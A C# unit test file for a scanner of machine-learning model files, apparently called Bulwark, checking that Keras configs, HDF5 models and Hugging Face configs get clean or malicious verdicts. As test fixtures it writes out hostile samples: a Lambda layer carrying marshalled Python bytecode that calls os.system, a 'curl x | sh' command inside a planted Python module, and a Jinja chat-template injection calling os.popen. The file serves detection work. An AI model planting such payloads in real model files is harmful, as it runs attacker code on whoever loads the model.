using System.Text;
using Bulwark.Models;
using Bulwark.Models.Formats;
using PureHDF;

namespace Bulwark.Tests.Models.Formats;

public class KerasFormatTests
{
    private readonly KerasConfigFormat _config = new();
    private readonly KerasH5Format _h5 = new();

    internal static string Sequential(string extraLayer = "") => $$$"""
        {"module": "keras", "class_name": "Sequential", "config": {"name": "seq", "layers": [
          {"module": "keras.layers", "class_name": "InputLayer", "config": {"batch_shape": [null, 4], "name": "in"}, "registered_name": null},
          {"module": "keras.layers", "class_name": "Dense", "config": {"name": "dense", "units": 2,
            "activation": {"module": "keras.activations", "class_name": "function", "config": "relu", "registered_name": "relu"},
            "kernel_initializer": {"module": "keras.initializers", "class_name": "GlorotUniform", "config": {"seed": null}, "registered_name": null}},
           "registered_name": null}{{{extraLayer}}}
        ]}, "registered_name": null, "build_config": {"input_shape": [null, 4]}}
        """;

    internal static byte[] H5(string? modelConfig)
    {
        var file = new H5File();
        if (modelConfig is not null)
        {
            file.Attributes["model_config"] = modelConfig;
            file.Attributes["keras_version"] = "2.15.0";
        }

        file["dense"] = new H5Dataset(new float[] { 1, 2, 3, 4 });
        using var stream = new MemoryStream();
        file.Write(stream);
        return stream.ToArray();
    }

    private const string Keras3Lambda = """
        ,{"module": "keras.layers", "class_name": "Lambda", "config": {"name": "pwn", "function": {"class_name": "__lambda__",
          "config": {"code": "4wEAAAAAAAAAAAAAAAEAAAADAAAAQwAAAHMOAAAAdABkAYMBAQB8AFMAKQJOeg1vcy5zeXN0ZW0oJ2lkJyk=", "defaults": null, "closure": null}}},
          "registered_name": null}
        """;

    [Fact]
    public void A_keras3_config_of_builtin_layers_is_clean()
    {
        var bytes = Encoding.UTF8.GetBytes(Sequential());
        Assert.True(_config.Recognizes(bytes, bytes.Length));
        Assert.Empty(RecordingScan.Run(_config, bytes).Issues);
    }

    [Fact]
    public void A_lambda_with_marshalled_code_is_malicious()
    {
        var scan = RecordingScan.Run(_config, Encoding.UTF8.GetBytes(Sequential(Keras3Lambda)), "m.keras/config.json");
        var issue = Assert.Single(scan.Issues);
        Assert.Equal((ModelRuleIds.KerasLambda, ModelVerdict.Malicious, "m.keras/config.json#pwn"), (issue.RuleId, issue.Verdict, issue.Member));
    }

    [Fact]
    public void A_legacy_lambda_is_malicious()
    {
        const string legacy = """
            {"class_name": "Sequential", "config": {"name": "s", "layers": [{"class_name": "Lambda", "config": {"name": "l",
              "function": ["4wEAAAAAAAAA", null, null], "function_type": "lambda", "module": "__main__"}}]}, "keras_version": "2.4.0"}
            """;
        var bytes = Encoding.UTF8.GetBytes(legacy);
        Assert.True(_config.Recognizes(bytes, bytes.Length));
        Assert.Equal(ModelVerdict.Malicious, RecordingScan.Run(_config, bytes).Verdict);
    }

    [Theory]
    [InlineData("""{"module": "builtins", "class_name": "function", "config": "exec", "registered_name": "exec"}""", ModelVerdict.Malicious)]
    [InlineData("""{"module": "my_company.layers", "class_name": "Attention", "config": {"name": "a"}, "registered_name": "my_company>Attention"}""", ModelVerdict.Suspicious)]
    [InlineData("""{"module": "keras.src.utils.file_utils", "class_name": "function", "config": "get_file", "registered_name": "get_file"}""", ModelVerdict.Suspicious)]
    public void Modules_outside_keras_and_custom_objects_are_reported(string layer, ModelVerdict verdict)
    {
        var scan = RecordingScan.Run(_config, Encoding.UTF8.GetBytes(Sequential("," + layer)));
        Assert.NotEmpty(scan.Issues);
        Assert.All(scan.Issues, i => Assert.Equal(ModelRuleIds.KerasUnsafeModule, i.RuleId));
        Assert.Equal(verdict, scan.Verdict);
    }

    [Fact]
    public void A_legacy_h5_model_config_is_read_with_purehdf()
    {
        var clean = H5(Sequential());
        Assert.True(_h5.Recognizes(clean, clean.Length));
        Assert.Empty(RecordingScan.Run(_h5, clean).Issues);

        var lambda = RecordingScan.Run(_h5, H5(Sequential(Keras3Lambda)), "model.h5");
        var issue = Assert.Single(lambda.Issues);
        Assert.Equal((ModelRuleIds.KerasLambda, "model.h5#model_config#pwn"), (issue.RuleId, issue.Member));
    }

    [Fact]
    public void Weights_only_h5_is_clean_and_a_broken_h5_is_a_format_error()
    {
        Assert.Empty(RecordingScan.Run(_h5, H5(null)).Issues);
        var broken = H5(Sequential())[..200];
        Assert.True(_h5.Recognizes(broken, broken.Length));
        Assert.Equal(ModelRuleIds.FormatError, Assert.Single(RecordingScan.Run(_h5, broken).Issues).RuleId);
    }

    [Fact]
    public void The_hdf5_signature_is_found_after_a_user_block()
    {
        var bytes = new byte[2048];
        new byte[] { 0x89, (byte)'H', (byte)'D', (byte)'F', 0x0D, 0x0A, 0x1A, 0x0A }.CopyTo(bytes, 1024);
        Assert.True(_h5.Recognizes(bytes, bytes.Length));
        Assert.False(_h5.Recognizes(bytes.AsSpan(0, 1000), 1000));
    }

    [Fact]
    public void A_lambda_is_found_behind_a_user_block_and_a_heap_reference_outside_the_file_is_an_error()
    {
        // A 512-byte user block: file addresses count from the superblock, wherever it sits.
        var file = H5(Sequential(Keras3Lambda));
        var withUserBlock = new byte[512].Concat(file).ToArray();
        Assert.Equal(ModelRuleIds.KerasLambda, Assert.Single(RecordingScan.Run(_h5, withUserBlock, "model.h5").Issues).RuleId);

        // The model_config reference points its global heap collection past the end: refused before any allocation.
        var name = file.AsSpan().IndexOf("model_config\0"u8);
        var reference = name + "model_config\0"u8.Length + 20 + 4; // the datatype (20 bytes) and scalar dataspace (4)
        var hostile = (byte[])file.Clone();
        BitConverter.TryWriteBytes(hostile.AsSpan(reference + 4, 8), long.MaxValue / 2);
        var issue = Assert.Single(RecordingScan.Run(_h5, hostile, "model.h5").Issues);
        Assert.Equal((ModelRuleIds.FormatError, ModelVerdict.Error), (issue.RuleId, issue.Verdict));
        Assert.Contains("outside the file", issue.Message, StringComparison.Ordinal);
    }
}

public sealed class HuggingFaceConfigFormatTests : IDisposable
{
    private readonly HuggingFaceConfigFormat _format = new();
    private readonly string _dir = Directory.CreateTempSubdirectory("bw-hf-").FullName;

    public void Dispose() => Directory.Delete(_dir, recursive: true);

    private const string RemoteCode = """
        {"architectures": ["EvilModel"], "model_type": "evil",
         "auto_map": {"AutoConfig": "configuration_evil.EvilConfig", "AutoModel": "modeling_evil.EvilModel",
                      "AutoTokenizer": ["other/repo--tokenization_evil.EvilTokenizer", null]}}
        """;

    [Fact]
    public void A_plain_config_is_clean()
    {
        var bytes = Encoding.UTF8.GetBytes("""{"architectures": ["BertModel"], "model_type": "bert", "hidden_size": 768}""");
        Assert.True(_format.Recognizes(bytes, bytes.Length));
        Assert.Empty(RecordingScan.Run(_format, bytes).Issues);
    }

    [Fact]
    public void Auto_map_names_each_python_file_and_other_repositories()
    {
        var scan = RecordingScan.Run(_format, Encoding.UTF8.GetBytes(RemoteCode), "config.json");
        Assert.Equal(3, scan.Issues.Count);
        Assert.All(scan.Issues, i => Assert.Equal((ModelRuleIds.HfRemoteCode, ModelVerdict.Suspicious), (i.RuleId, i.Verdict)));
        Assert.Contains(scan.Issues, i => i.Message.Contains("modeling_evil.py", StringComparison.Ordinal));
        Assert.Contains(scan.Issues, i => i.Message.Contains("other/repo", StringComparison.Ordinal));
    }

    [Fact]
    public void A_named_module_beside_the_config_that_runs_commands_is_malicious()
    {
        File.WriteAllText(Path.Combine(_dir, "modeling_evil.py"), "import os\nclass EvilModel:\n    def __init__(self):\n        os.system('curl x | sh')\n");
        File.WriteAllText(Path.Combine(_dir, "configuration_evil.py"), "class EvilConfig:\n    model_type = 'evil'\n");
        var scan = RecordingScan.Run(_format, Encoding.UTF8.GetBytes(RemoteCode), "config.json", _dir);
        var malicious = Assert.Single(scan.Issues, i => i.Verdict == ModelVerdict.Malicious);
        Assert.Contains("os.system(", malicious.Evidence, StringComparison.Ordinal);

        // Inside an archive there is no directory: never read.
        var nested = new RecordingScan(_dir, depth: 1);
        _format.Inspect(new MemoryStream(Encoding.UTF8.GetBytes(RemoteCode)), "x.zip/config.json", nested);
        Assert.DoesNotContain(nested.Issues, i => i.Verdict == ModelVerdict.Malicious);
    }

    [Fact]
    public void Trust_remote_code_and_malicious_chat_templates_are_reported()
    {
        var bytes = Encoding.UTF8.GetBytes("""{"tokenizer_class": "X", "trust_remote_code": true, "chat_template": "{{ lipsum.__globals__.os.popen('id') }}"}""");
        Assert.True(_format.Recognizes(bytes, bytes.Length));
        var scan = RecordingScan.Run(_format, bytes);
        Assert.Contains(scan.Issues, i => i.RuleId == ModelRuleIds.HfRemoteCode && i.Verdict == ModelVerdict.Suspicious);
        Assert.Contains(scan.Issues, i => i.RuleId == ModelRuleIds.GgufTemplateInjection && i.Verdict == ModelVerdict.Malicious);
    }
}
